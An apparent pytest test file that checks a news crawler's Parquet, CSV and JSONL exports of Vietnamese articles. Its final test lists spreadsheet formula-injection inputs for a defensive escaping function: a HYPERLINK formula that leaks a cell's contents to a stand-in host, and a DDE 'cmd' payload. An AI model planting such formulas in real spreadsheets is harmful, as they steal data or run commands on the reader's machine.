"""Exports of the crawled replica, read back with the tools analysts use: same rows, same text."""

from __future__ import annotations

import csv
import hashlib
import json

import duckdb
import pandas as pd
import pyarrow.parquet as pq
import pytest

from crawler.handoff.export import COLUMNS, ExportFilters, csv_columns, export

pytestmark = pytest.mark.e2e


@pytest.fixture(scope="module")
def exported(crawled, tmp_path_factory):
    out = tmp_path_factory.mktemp("exports")
    result = export(crawled.db, out, ["parquet", "csv", "jsonl"], ExportFilters(), target="tests", name="all", progress=False)
    docs = {d["_id"]: d for d in crawled.db.articles.find({"removed_at": None})}
    return out, result, docs


def test_jsonl_holds_the_full_records_byte_for_byte(exported):
    out, result, docs = exported
    lines = (out / "all.jsonl").read_text(encoding="utf-8").splitlines()
    rows = {r["id"]: r for r in map(json.loads, lines)}
    assert set(rows) == set(docs) and result.rows == len(docs) >= 1900
    for key, doc in docs.items():
        assert (rows[key]["title"], rows[key]["body_text"], rows[key]["categories"]) == (doc["title"], doc["body_text"], doc["categories"])
        assert rows[key]["published_at"] == doc["published_at"].isoformat()


def test_parquet_has_typed_columns_and_the_same_text(exported):
    out, _, docs = exported
    table = pq.read_table(out / "all.parquet")
    assert table.schema.field("published_at").type.tz == "UTC"
    assert str(table.schema.field("categories").type) == "list<element: struct<slug: string, name: string>>"
    rows = {r["id"]: r for r in table.to_pylist()}
    assert set(rows) == set(docs)
    for key, doc in docs.items():
        assert rows[key]["body_text"].encode() == doc["body_text"].encode()
        assert rows[key]["images"] == doc["images"]
    [seed] = duckdb.sql(f"select title, author from '{out / 'all.parquet'}' where id = 'thanhphohaiphong:24168'").fetchall()
    assert seed == ("Khen thưởng 71 tập thể, cá nhân tiêu biểu", "MINH PHƯƠNG")


def test_csv_opens_in_excel_and_pandas_with_vietnamese_intact(exported):
    out, _, docs = exported
    raw = (out / "all.csv").read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # the BOM Excel needs to read UTF-8
    frame = pd.read_csv(out / "all.csv", encoding="utf-8-sig", dtype=str, keep_default_na=False)
    assert list(frame.columns) == csv_columns() and len(frame) == len(docs)
    by_id = frame.set_index("id")
    for key, doc in docs.items():
        assert by_id.at[key, "title"] == doc["title"] and by_id.at[key, "body_text"] == doc["body_text"]
        assert by_id.at[key, "categories_slug"] == " | ".join(c["slug"] for c in doc["categories"])
    assert by_id.at["thanhphohaiphong:24168", "source_publisher"] == "Báo An ninh Hải Phòng"
    with (out / "all.csv").open(encoding="utf-8-sig", newline="") as source:
        assert sum(1 for _ in csv.reader(source)) == len(docs) + 1  # one article a row, newlines quoted


def test_the_manifest_describes_and_checks_the_files(exported):
    out, result, docs = exported
    manifest = json.loads(result.manifest.read_text(encoding="utf-8"))
    assert manifest["rows"] == len(docs) and manifest["schema_version"] == 2 and manifest["columns"] == list(COLUMNS)
    for entry in manifest["files"]:
        assert hashlib.sha256((out / entry["name"]).read_bytes()).hexdigest() == entry["sha256"]
    assert not list(out.glob(".*"))  # no temporary file left behind


def test_filters_narrow_the_export(crawled, tmp_path):
    result = export(crawled.db, tmp_path, ["jsonl"], ExportFilters(site="congan_haiphong", category="Canh-bao-toi-pham"),
                    target="filters", name="cat", progress=False)
    rows = [json.loads(line) for line in (tmp_path / "cat.jsonl").read_text(encoding="utf-8").splitlines()]
    assert result.rows == len(rows) == crawled.db.articles.count_documents(
        {"site": "congan_haiphong", "categories.slug": "Canh-bao-toi-pham"}) > 0
    assert all(r["site"] == "congan_haiphong" for r in rows)


@pytest.mark.parametrize(("cell", "safe"), [
    ('=HYPERLINK("http://127.0.0.2/?leak="&A2,"x")', '\'=HYPERLINK("http://127.0.0.2/?leak="&A2,"x")'),
    ("+1+2", "'+1+2"), ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"), ("\tx", "'\tx"), ("\rx", "'\rx"),
    ("Nguồn: =cmd|' /C calc'!A0", "Nguồn: =cmd|' /C calc'!A0"),  # not at the start: text already
    ("Khen thưởng", "Khen thưởng"), (None, None), (3, 3),
])
def test_csv_cells_that_a_spreadsheet_would_run_get_a_leading_quote(cell, safe):
    from crawler.handoff.export import spreadsheet_safe

    assert spreadsheet_safe(cell) == safe
